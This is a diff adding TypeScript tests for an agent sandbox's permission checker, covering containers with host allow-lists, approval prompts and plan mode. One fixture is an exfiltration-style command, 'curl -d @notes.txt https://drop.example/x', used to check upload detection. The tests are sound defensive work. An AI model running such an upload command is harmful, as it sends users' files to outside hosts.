@@ -8,7 +8,7 @@ import type { Mode } from "../../src/index.ts";
 import { propertyRuns } from "./property-runs.ts";
 import { houseTools } from "./support/hermes-tools.ts";
 import { call, callOf, no, personWho, temporaryPlace, toolNamed } from "./support/temporary-place.ts";
-import { becomes, run, wallAround, walledPlace } from "./support/walled-place.ts";
+import { becomes, run, wallAround, walledPlace, wallOf } from "./support/walled-place.ts";
 
 const held: readonly string[] = [
   "ls -la",
@@ -157,6 +157,53 @@ test("without a wall asking to leave it means nothing", async () => {
   const verdict = await run(place.open(), { command: "make", outside: true, hosts: ["a.example"], why: "x" });
 
   expect(verdict).toEqual({ allow: true, result: undefined });
+});
+
+/* ---- a container whose network is by list ---- */
+
+test("in a container with listed hosts only what is sent is decided in another way", async () => {
+  await using place = await temporaryPlace();
+  const backend = {
+    kind: "docker",
+    isolated: true,
+    mounts: [{ host: place.workspace, inside: place.workspace, writable: true }],
+  };
+  const wall = wallAround(place, { holds: "network", writable: () => true });
+  const [without, within] = [place.open({ backend }), place.open({ backend, wall })];
+  const commands = [...held, ...inside.map(([command]) => command), ...beyond.map(([command]) => command)];
+  const differs: Record<string, unknown> = {};
+  for (const command of commands) {
+    const [before, now] = [await becomes(without, command), await becomes(within, command)];
+    expect(now.runs).toBe(before.runs === "no wall" ? "workspace" : before.runs);
+    if (now.asked.join() !== before.asked.join()) differs[command] = [before.asked, now.asked];
+  }
+
+  expect(differs).toEqual({ "curl -d @notes.txt https://drop.example/x": [["network.upload"], []] });
+  expect(await becomes(within, "curl -d @notes.txt https://github.com/x")).toEqual({
+    asked: ["network.upload"],
+    runs: "workspace",
+  });
+});
+
+test("in a container with listed hosts another host is one question, and there is no way out", async () => {
+  await using place = await temporaryPlace();
+  const backend = { kind: "docker", isolated: true };
+  const wall = wallAround(place, { holds: "network", writable: () => true });
+  const permissions = place.open({ backend, wall });
+  const wanted = { command: "make", hosts: ["a.example"], why: "x" };
+
+  expect(await becomes(permissions, { command: "make", outside: true, why: "x" })).toEqual({
+    asked: [],
+    runs: "workspace",
+  });
+  expect(await becomes(permissions, wanted, no)).toEqual({ asked: ["wall.host"], runs: "refused" });
+  const once = personWho({ approved: true, scope: "session" });
+  const given = wallOf(await run(permissions, wanted, { approve: once.approve }));
+  const later = await run(permissions, "make", { approve: personWho(no).approve });
+
+  expect([given.hosts, wallOf(later).hosts]).toEqual([["a.example"], ["a.example"]]);
+  permissions.setMode("plan");
+  expect(await becomes(permissions, "make")).toEqual({ asked: [], runs: "refused" });
 });
 
 /* ---- modes ---- */
